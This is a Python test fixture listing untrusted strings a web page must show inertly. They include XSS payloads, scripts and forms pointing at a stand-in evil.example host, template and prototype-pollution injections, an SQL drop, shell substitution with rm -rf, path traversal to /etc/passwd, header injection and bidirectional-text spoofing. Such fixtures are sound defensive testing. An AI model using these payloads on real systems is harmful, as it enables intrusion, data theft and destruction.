"""Texts that strangers send and a page has to show as they are: none runs, none breaks what stands round it.

What would run sets `window.__pwned`.
"""

from __future__ import annotations

import unicodedata
from typing import Any

_PWN = "window.__pwned=1"
_MANY_MARKS = "".join(chr(mark) for mark in range(0x0300, 0x0340))

#: Name of each text -> the text.
TEXTS: dict[str, str] = {
    # Markup that would run
    "script": f"<script>{_PWN}</script>",
    "script after a closed one": f"</script><script>{_PWN}</script>",
    "script that ends a comment": f"--><script>{_PWN}</script><!--",
    "script in capitals": f"<ScRiPt >{_PWN}</sCrIpT >",
    "script from elsewhere": '<script src="//evil.example/x.js"></script>',
    "image with a handler": f"<img src=x onerror={_PWN}>",
    "image without an end": f'<img src="x" onerror="{_PWN}" ',
    "handler of focus": f"<input autofocus onfocus={_PWN}>",
    "handler of details": f"<details open ontoggle={_PWN}>",
    "end of an attribute": f'" onmouseover="{_PWN}" autofocus x="',
    "end of an attribute in single quotes": f"' onfocus='{_PWN}' autofocus tabindex='0",
    "end of a text area": f"</textarea><script>{_PWN}</script>",
    "end of a title": f"</title><img src=x onerror={_PWN}>",
    "SVG with onload": f'<svg onload="{_PWN}"><circle r="9"/></svg>',
    "SVG with a script": f"<svg><script>{_PWN}</script></svg>",
    "SVG that animates a link": f'<svg><a><animate attributeName="href" to="javascript:{_PWN}"/></a></svg>',
    "SVG with foreign content": f"<svg><foreignObject><img src=x onerror={_PWN}></foreignObject></svg>",
    "MathML": f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_PWN}&gt;">',
    "frame with a document": '<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>',
    "frame with a script address": '<iframe src="javascript:top.__pwned=1"></iframe>',
    "object": f'<object data="data:text/html,<script>{_PWN}</script>"></object>',
    "form": '<form action="//evil.example"><button>Sign in</button></form>',
    "base": '<base href="//evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "template": f"<template><script>{_PWN}</script></template>",
    # Addresses
    "javascript address": f"javascript:{_PWN}",
    "javascript address in disguise": f"JaVa\tScRiPt:{_PWN}",
    "javascript address with an entity": f"&#106;avascript:{_PWN}",
    "data address": f"data:text/html,<script>{_PWN}</script>",
    "link in Markdown": f"[click](javascript:{_PWN})",
    "image in Markdown": f'![x](x"onerror="{_PWN})',
    "HTML in Markdown": f"**bold** <b onclick={_PWN}>x</b> `</code><script>{_PWN}</script>`",
    # Templates of one language or another
    "template literal": "${window.__pwned=1}`${constructor.constructor('window.__pwned=1')()}`",
    "braces": "{{constructor.constructor('window.__pwned=1')()}} {% raw %} <%= 7*7 %> #{7*7} $[[x]]",
    "hole of a template": "<!--hole--><!--/hole--> data-hole=0 $$hole0$$",
    "format": "%s %d %n {0} {name} $1 $& $` \\u003cscript\\u003e",
    # Styles
    "style": "<style>*{display:none!important}body{background:url(//evil.example)}</style>",
    "end of a style": "red;} body{display:none} x{color:expression(window.__pwned=1)",
    "style attribute": '<b style="position:fixed;inset:0;z-index:9999">x</b>',
    # Entities and JSON
    "entities": "&lt;script&gt; &amp;amp; &#x3c;img&#x3e; &nbsp;&notanentity; &",
    "end of JSON": '"}],"x":{"__proto__":{"polluted":1}}</script>',
    "prototype": "__proto__",
    "constructor": "constructor",
    "method of objects": "hasOwnProperty",
    "comment": "/* */ // <!-- --> ]]> <![CDATA[ x ]]> <?php x ?>",
    # Words that a program may take for values
    "null": "null",
    "undefined": "undefined",
    "NaN": "NaN",
    "object object": "[object Object]",
    "false": "false",
    "zero": "0",
    "long number": "9" * 400,
    "large exponent": "1e9999",
    "blank": " \u00a0\u2003 ",
    # Directions, widths, marks
    "override to the left": "invoice\u202egnp.exe\u202c",
    "unclosed override": "\u202e\u202d\u202b\u202aleft open",
    "isolates": "\u2066\u2067\u2068x\u2069",
    "Arabic and Hebrew": "مرحبا بالعالم שלום עולם 123 abc",
    "zero widths": "pay\u200bload\u200c\u200d\ufeff\u2060\u00ad",
    "marks upon marks": "".join(f"{letter}{_MANY_MARKS}" for letter in "headrace"),
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪👍🏿❤️‍🔥1️⃣" * 20,
    "wide": "﷽" * 40 + "𒐫" * 40,
    "without a blank": "x" * 10_000,
    "without a blank, wide": "漢" * 3_000,
    "many lines": "\n" * 500 + "last",
    "line separators": "one\u2028two\u2029three\u0085four\x0bfive",
    "tabs": "\t" * 200 + "x",
    # What terminals and databases take amiss
    "ANSI colours": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "control characters": "".join(chr(code) for code in range(1, 32)) + "\x7f",
    "private and unassigned": "\ue000\U000f0000\uffff\U0010ffff",
    "SQL": "'; DROP TABLE runs; --",
    "shell": "$(touch x) `touch x`; rm -rf ./x | x && x",
    "path": "../../../../etc/passwd\\..\\..%2e%2e%2f",
    "newline in a header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.__pwned=1</script>",
}


def on_a_line(text: str, most: int) -> str:
    """Fit a text to where one line of limited length is allowed; a blank one gets a letter."""
    kept = "".join(each for each in text if unicodedata.category(each) not in ("Cc", "Cs", "Zl", "Zp"))
    return kept[:most] if kept.strip() else f"{kept}x"


def nested() -> dict[str, Any]:
    """All texts as values, as names of fields and deep inside."""
    deep: Any = "bottom"
    for text in list(TEXTS.values())[:30]:
        deep = {text[:100]: [deep]}
    return {
        "values": list(TEXTS.values()),
        "names": {text[:200]: number for number, text in enumerate(TEXTS.values())},
        "deep": deep,
        "__proto__": {"polluted": True},
        "constructor": {"prototype": {"polluted": True}},
        "numbers": [10**18, -0.0, 1e-300, 1.7976931348623157e308, 0.1 + 0.2],
        "empty": [{}, [], "", None, False],
    }
